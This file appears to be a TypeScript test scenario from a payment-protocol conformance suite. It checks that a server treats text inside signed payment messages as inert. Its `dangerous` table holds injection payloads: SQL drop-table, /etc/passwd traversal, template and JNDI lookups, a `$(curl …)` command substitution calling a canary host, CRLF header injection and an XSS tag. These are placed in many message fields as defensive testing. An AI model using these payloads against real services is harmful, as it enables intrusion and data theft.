import { encodeHeader, isObject } from "../../../protocol/headers.js";
import { serverScenario, type SignedPayment } from "../../../runner/scenario.js";

/** Texts that mean something to who does not keep them apart from code. `url` is a server that nobody has business with. */
const dangerous: Record<string, (url: string) => string> = {
  "a query": () => "'; DROP TABLE payments; --",
  "a path": () => "../../../../etc/passwd",
  "a template": () => "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
  "a lookup": (url) => `\${jndi:ldap://${new URL(url).host}/a}`,
  "a command": (url) => `$(curl ${url}/command)`,
  "a line of a header": () => "paid\r\nX-Injected: yes\r\n\r\n<p>",
  "a link": (url) => `${url}/callback`,
  "a script": (url) => `"><img src=${url}/image>`,
};

/** Where the texts are put, a payment each. It may be refused by them or taken; what they say must not happen. */
const places: Record<string, (message: Record<string, unknown>, texts: readonly string[]) => Record<string, unknown>[]> = {
  "unknown members": (message, texts) => [
    { ...message, callback: texts, webhookUrl: texts.at(-1), notify: { url: texts.at(-1) } },
  ],
  resource: (message, texts) => texts.map((text) => ({ ...message, resource: { url: text, description: text, mimeType: text } })),
  extensions: (message, texts) => [
    {
      ...message,
      extensions: Object.fromEntries(
        texts.map((text) => [text, { info: { url: text, callback: text }, schema: { $ref: text } }]),
      ),
    },
  ],
  extra: ({ accepted, ...rest }, texts) =>
    texts
      .slice(-2)
      .map((text) => ({ name: text, version: text, facilitator: text, texts }))
      .map((extra) => ({ ...rest, extra, ...(isObject(accepted) ? { accepted: { ...accepted, extra } } : {}) })),
  "scheme and network": ({ accepted, ...rest }, texts) =>
    texts
      .map((text) => ({ scheme: text, network: text }))
      .map((named) => (isObject(accepted) ? { ...rest, accepted: { ...accepted, ...named } } : { ...rest, ...named })),
  authorization: ({ payload, ...rest }, texts) => {
    const own = payload as { authorization: object };
    return texts.map((text) => ({
      ...rest,
      payload: { ...own, authorization: { ...own.authorization, to: text, nonce: text } },
    }));
  },
};

export default serverScenario({
  id: "server/decoding/injection",
  title: "Text in a payment is neither executed nor followed",
  needs: ["exact-eip3009"],
  checks: {
    "link-not-followed": "payload-text-inert",
    "no-header-injected": "payload-text-inert",
    "no-server-error": "survives-malformed",
    "sells-afterwards": "valid-payment-served",
  },
  async run({ buyer, canary, quiet, expect }) {
    await buyer.pay();
    const { url, hits } = await canary();
    // Made before, since a target that went down shows no offer any more.
    const later = await buyer.sign();
    const said = Object.values(dangerous).map((text) => text(url));
    const attempt = async (message: unknown, payment: SignedPayment) => {
      const answer = await buyer.present({ ...payment, header: { ...payment.header, value: encodeHeader(message) } });
      expect("no-server-error").answered(answer);
      expect("no-header-injected").that(answer.headers["x-injected"] === undefined, "no header came out of the payment", {
        expected: "no X-Injected header",
        actual: answer.headers,
        evidence: [answer.id],
      });
    };
    for (const place of Object.values(places)) {
      const payment = await buyer.sign();
      const messages = place(payment.message as unknown as Record<string, unknown>, said);
      // One authorization for all of them: who takes it the first time has read the text by then, and so has who refuses it.
      for (const message of messages) await attempt(message, payment);
    }
    expect("sells-afterwards").served(await buyer.present(await buyer.sign().catch(() => later)));
    await quiet(buyer);
    expect("link-not-followed").that(
      hits().length === 0,
      hits().length === 0 ? "nobody came" : "a link in a payment was followed",
      {
        expected: "no request to the address that stood in the payment",
        actual: hits(),
      },
    );
  },
});
